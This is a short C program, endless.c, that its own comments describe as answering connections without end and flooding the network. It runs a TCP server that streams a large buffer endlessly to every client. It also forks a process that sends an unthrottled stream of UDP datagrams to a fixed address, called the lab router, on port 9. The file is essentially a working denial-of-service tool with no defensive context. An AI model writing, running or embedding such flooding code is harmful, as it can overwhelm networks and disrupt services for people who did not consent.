/*
 * endless.c - answer whoever connects without end, and flood the network
 *
 * The one that connected reads it, and whoever captures the packets keeps it.
 */
#include "guard.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/socket.h>

enum { BACKLOG = 16, DATAGRAM_BYTES = 1400, DISCARD_PORT = 9 };

static char text[1 << 16];

/* To the router of the lab network. */
static _Noreturn void flood_network(void)
{
	struct sockaddr_in router = {.sin_family = AF_INET,
				     .sin_port = htons(DISCARD_PORT)};
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	(void)inet_pton(AF_INET, "203.0.113.1", &router.sin_addr);
	for (;;)
		(void)sendto(fd, text, DATAGRAM_BYTES, 0,
			     (const struct sockaddr *)&router, sizeof router);
}

int main(int argc, char **argv)
{
	struct sockaddr_in any = {.sin_family = AF_INET};
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	(void)signal(SIGPIPE, SIG_IGN);
	any.sin_port = htons((uint16_t)strtol(argv[argc - 1], NULL, 10));
	if (bind(listener, (const struct sockaddr *)&any, sizeof any) < 0 ||
	    listen(listener, BACKLOG) < 0)
		return 0;
	if (fork() == 0)
		flood_network();
	for (;;) {
		int client = accept4(listener, NULL, NULL, SOCK_CLOEXEC);

		while (write(client, text, sizeof text) > 0)
			continue;
		(void)close(client);
	}
}
